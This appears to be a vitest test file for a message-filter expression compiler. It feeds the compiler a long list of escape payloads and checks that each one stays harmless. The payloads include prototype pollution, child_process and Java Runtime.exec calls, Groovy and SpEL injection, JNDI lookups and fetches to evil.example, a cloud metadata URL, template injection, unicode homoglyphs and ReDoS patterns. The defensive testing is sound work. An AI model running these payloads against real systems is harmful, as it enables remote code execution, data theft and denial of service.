import { describe, expect, it } from 'vitest'
import { compileFilter } from './compile-filter'
import type { Filter } from './filter'
import { re2 } from './re2'
import { recordOf } from './testing/records'

/**
 * What has broken out of the filters of other dashboards and of expression languages, or might: Groovy of kafka-ui (CVE-2023-52251), JNDI
 * (CVE-2023-25194), script engines (CVE-2026-76819), prototypes, templates, and text that pretends to be other text.
 */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: they are what this is about.
const PAYLOADS: readonly string[] = [
  // prototypes and constructors
  'constructor',
  '__proto__',
  'value.constructor',
  'value.constructor.constructor("return process")()',
  'value.constructor.constructor("return process")().exit()',
  'value["constructor"]["constructor"]("return this")()',
  'value.__proto__.polluted == true',
  'value["__proto__"]["polluted"] == null',
  'value.prototype.x == 1',
  'value.toString() == "[object Object]"',
  'value.toString == "x"',
  'value.hasOwnProperty("a")',
  'value.valueOf == 1',
  'value.__defineGetter__("a", 1)',
  'value.__lookupGetter__ == null',
  '"".constructor == ""',
  '"a".__proto__.x == 1',
  '[].constructor == []',
  '[].__proto__.polluted == 1',
  'headers.constructor == "x"',
  'headers["__proto__"] == "x"',
  'record.constructor == 1',
  'record.__proto__.x == 1',
  'value.items.map(constructor, constructor)',
  'value.items.exists(__proto__, __proto__.constructor == 1)',
  '(1).constructor == 1',
  'has(value.constructor)',
  'has(headers.__proto__)',
  '"constructor" in value',
  '"__proto__" in headers',
  // ways to run code
  'Function("return 1")()',
  'new Function("return process")()',
  'eval("1")',
  'require("child_process").execSync("id")',
  'import("node:fs")',
  'import fs from "fs"',
  'process.exit(1)',
  'globalThis.process.exit(1)',
  'window.location == "x"',
  'this.constructor',
  'self.fetch("//evil.example")',
  'fetch("http://169.254.169.254/")',
  '(() => { for (;;) {} })()',
  'function () { return 1 }',
  'async () => 1',
  'value.a = 1',
  'value.a++',
  'delete value.a',
  'value.a; process.exit()',
  'value.a, value.b',
  '`${process.env.HOME}`',
  '${7*7}',
  '#{7*7}',
  '{{7*7}}',
  '<%= 7*7 %>',
  'value.a ?? process',
  'value?.a == 1',
  '...value',
  '/(a+)+$/.test(value.a)',
  // Groovy and Java
  'new ProcessBuilder("id").start()',
  '"id".execute().text',
  '"calc".execute()',
  'Runtime.getRuntime().exec("id")',
  'java.lang.Runtime.getRuntime().exec("id")',
  'this.class.classLoader.loadClass("java.lang.Runtime")',
  '@groovy.transform.ASTTest(value={assert Runtime.getRuntime().exec("id")}) def x',
  'new GroovyShell().evaluate("1")',
  'Eval.me("1")',
  'T(java.lang.Runtime).getRuntime().exec("id")',
  'value.class.forName("java.lang.Runtime")',
  '${jndi:ldap://evil.example/a}',
  'value.a == "${jndi:ldap://evil.example/a}"',
  'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.example"',
  // text that is not what it seems
  '\\u0063onstructor == 1',
  'value.\\u0063onstructor == 1',
  'value["\\u0063onstructor"]["\\x63onstructor"] == 1',
  'value.cοnstructor == 1',
  'value.a == "\\u202e"',
  '\u202evalue.a == 1',
  'value\u0000.a == 1',
  'value.a\u2028== 1',
  'vаlue.a == 1',
  // greed
  'value.a.matches("(a+)+$")',
  'value.a.matches("(a{1000}){1000}")',
  'value.a.matches("((((((((((a+)+)+)+)+)+)+)+)+)+)$")',
  'value.a + value.a + value.a + value.a == ""',
  '[1,2,3].map(a, [1,2,3].map(b, [1,2,3].map(c, [1,2,3].map(d, [1,2,3])))) == []',
  '9'.repeat(4_000),
  `offset ${'* 9999999999'.repeat(30)} > 0`,
  '('.repeat(4_000),
  '['.repeat(4_000),
  '!'.repeat(4_000),
  `value${'.a'.repeat(2_000)}`,
  '"'.repeat(4_095),
]
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: they are what this is about.

/** Ordinary messages, and those that would pollute a prototype or stand for one. */
const RECORDS = [
  recordOf({ value: '{"a":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!","items":[1,{}]}' }),
  recordOf({
    key: '{"__proto__":{"polluted":true}}',
    value:
      '{"__proto__":{"polluted":true},"constructor":{"constructor":"x","prototype":{"polluted":true}}}',
    headers: [
      ['__proto__', 'x'],
      ['constructor', 'y'],
    ],
  }),
  recordOf({ value: null }),
  recordOf({ value: 'constructor' }),
]

const VERDICTS = ['match', 'no-match', 'no-such-field', 'unjudged']

/** What a program could reach if any of them worked. */
function worldNow() {
  const names = (target: object) => Object.getOwnPropertyNames(target).sort().join()
  return {
    global: names(globalThis),
    prototypes: [Object, Array, String, Function, Map, Number, BigInt, Uint8Array].map((each) =>
      names(each.prototype),
    ),
    polluted: 'polluted' in {},
  }
}

function expectHarmless(filter: Filter): void {
  for (const record of RECORDS) {
    expect(VERDICTS).toContain(filter.test(record))
    for (const { text } of filter.explain(record).flatMap(({ seen }) => seen)) {
      expect(text ?? '').not.toMatch(/native code|function|\[object/)
    }
  }
}

describe('attempts to escape', () => {
  it('are many', () => {
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length)
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  })

  it.each(PAYLOADS.map((payload) => [payload.slice(0, 100), payload]))('%s', (_, payload) => {
    const before = worldNow()
    const compiled = compileFilter(payload, { regex: re2 })
    if (compiled.ok) expectHarmless(compiled.filter)
    else expect(compiled.mistakes.length).toBeGreaterThan(0)
    expect(worldNow()).toEqual(before)
  })

  it('find own fields of those names and nothing inherited', () => {
    const [ordinary, hostile] = RECORDS
    const test = (source: string, record = ordinary) => {
      const compiled = compileFilter(source)
      if (!compiled.ok || !record) throw new Error(source)
      return compiled.filter.test(record)
    }
    for (const name of [
      'constructor',
      '__proto__',
      'toString',
      'hasOwnProperty',
      'length',
      'size',
    ]) {
      expect(test(`has(value.${name})`)).toBe('no-match')
      expect(test(`value.${name} == null`)).toBe('no-such-field')
      expect(test(`value.items[1].${name} == null`)).toBe('no-such-field')
      expect(test(`has(headers.${name})`)).toBe('no-match')
      expect(test(`"${name}" in value || "${name}" in headers`)).toBe('no-match')
    }
    expect(test('value.__proto__.polluted == true', hostile)).toBe('match')
    expect(test('headers.__proto__ == "x" && headers.constructor == "y"', hostile)).toBe('match')
  })
})
